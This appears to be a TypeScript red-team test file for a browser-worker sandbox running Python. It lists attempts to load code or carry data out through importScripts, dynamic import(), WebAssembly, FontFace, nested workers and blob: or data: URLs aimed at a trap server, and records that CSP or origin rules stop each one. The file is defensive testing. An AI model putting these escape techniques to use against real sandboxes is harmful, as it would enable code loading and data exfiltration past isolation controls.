/**
 * Attempts to load code or data from outside the sandbox (which would also carry data out in the URL): every
 * way a worker loads a script, a module, a wasm module, a font or another worker, from the trap server, from
 * data: URLs, and from the page's own blob: URLs (same site, other origin). Nested workers try the network
 * themselves, in case a new global scope came with a looser policy.
 */
import type { Attempt } from './redteamAttempt.ts';

export const LOADING_ATTEMPTS: Attempt[] = [
  {
    name: 'importScripts of a trap URL',
    python: `js.importScripts(TRAP + "importscripts.js")`,
    expect: ['raised:js.NetworkError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'importScripts of a data: URL',
    python: `js.importScripts("data:text/javascript,fetch('" + TRAP + "importscripts-data')")`,
    expect: ['raised:js.NetworkError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'dynamic import() of a trap URL',
    async: true,
    python: `
run_js("self.redteamImport = (url) => import(url);")
watch(js.redteamImport(TRAP + "import.mjs"))`,
    expect: ['rejected:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'dynamic import() of a data: URL',
    async: true,
    python: `
run_js("self.redteamImport = (url) => import(url);")
watch(js.redteamImport("data:text/javascript,fetch('" + TRAP + "import-data')"))`,
    expect: ['rejected:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'import() of a blob: module that fetches',
    async: true,
    python: `
run_js("self.redteamImport = (url) => import(url);")
source = "export const r = await fetch('" + TRAP + "import-blob').then(() => 'fetched', (e) => e.name);"
url = js.URL.createObjectURL(js.Blob.new([source], obj(type="text/javascript")))
record("pending")
ok = create_proxy(lambda module: record("module ran: " + str(module.r)))
js.redteamImport(url).then(ok, create_proxy(lambda error: record("rejected:" + _js_name(error))))`,
    expect: ['module ran: TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'WebAssembly.compileStreaming of a trap URL',
    async: true,
    python: `
run_js("self.redteamWasm = (url) => WebAssembly.compileStreaming(fetch(url));")
watch(js.redteamWasm(TRAP + "module.wasm"))`,
    expect: ['rejected:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'FontFace loading a trap URL',
    async: true,
    python: `watch(js.FontFace.new("redteam", "url(" + TRAP + "font.woff2)").load())`,
    expect: ['rejected:NetworkError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'nested blob: worker that fetches',
    async: true,
    python: `
source = "fetch('" + TRAP + "nested-worker').then(() => postMessage('fetched'), (e) => postMessage(e.name));"
worker = js.Worker.new(js.URL.createObjectURL(js.Blob.new([source], obj(type="text/javascript"))))
watch_events(worker, ["message", "error"])`,
    expect: ['message:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'nested worker from a data: URL',
    async: true,
    python: `
source = "fetch('" + TRAP + "nested-data-worker').then(() => postMessage('fetched'), (e) => postMessage(e.name));"
watch_events(js.Worker.new("data:text/javascript," + source), ["message", "error"])`,
    expect: ['error'],
    stoppedBy: 'CSP',
  },
  {
    name: 'nested worker from a trap URL',
    python: `js.Worker.new(TRAP + "worker.js")`,
    expect: ['raised:js.SecurityError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'SharedWorker from a blob: URL',
    python: `js.SharedWorker.new(js.URL.createObjectURL(js.Blob.new(["1"], obj(type="text/javascript"))))`,
    expect: ['raised:AttributeError'],
    stoppedBy: 'worker scope',
  },
  {
    // connect-src 'none' covers blob: URLs; the cross-origin blob would be refused behind it anyway.
    name: "fetch of the page's blob: URL",
    async: true,
    python: `watch(js.fetch(PAGE_BLOB))`,
    expect: ['rejected:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: "importScripts of the page's blob: URL",
    python: `js.importScripts(PAGE_BLOB)`,
    expect: ['raised:js.NetworkError'],
    stoppedBy: 'opaque origin',
  },
  {
    name: "worker from the page's blob: URL",
    python: `js.Worker.new(PAGE_BLOB)`,
    expect: ['raised:js.SecurityError'],
    stoppedBy: 'opaque origin',
  },
];
